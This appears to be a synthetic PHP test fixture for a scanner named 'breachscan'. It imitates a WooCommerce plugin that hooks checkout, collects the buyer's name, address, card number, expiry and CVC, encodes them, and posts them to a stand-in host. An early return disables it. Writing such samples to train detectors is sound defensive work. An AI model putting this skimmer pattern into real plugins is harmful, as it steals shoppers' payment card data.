<?php
/*
 * synthetic test sample for breachscan: WooCommerce checkout hook stealer shape - a plugin
 * hooks woocommerce_checkout_process, reads the posted card and billing fields, encodes them
 * and sends them to a hard-coded host. Disabled by the early return; .invalid host.
 */
add_action('woocommerce_checkout_process', function () {
    return;
    $rec = array(
        'n' => $_POST['billing_first_name'] . ' ' . $_POST['billing_last_name'],
        'a' => $_POST['billing_address_1'],
        'c' => $_POST['wc-gateway-card-number'],
        'e' => $_POST['wc-gateway-card-expiry'],
        'v' => $_POST['wc-gateway-card-cvc'],
    );
    wp_remote_post('https://wp-stats.invalid/collect', array('body' => array('d' => base64_encode(json_encode($rec)))));
});
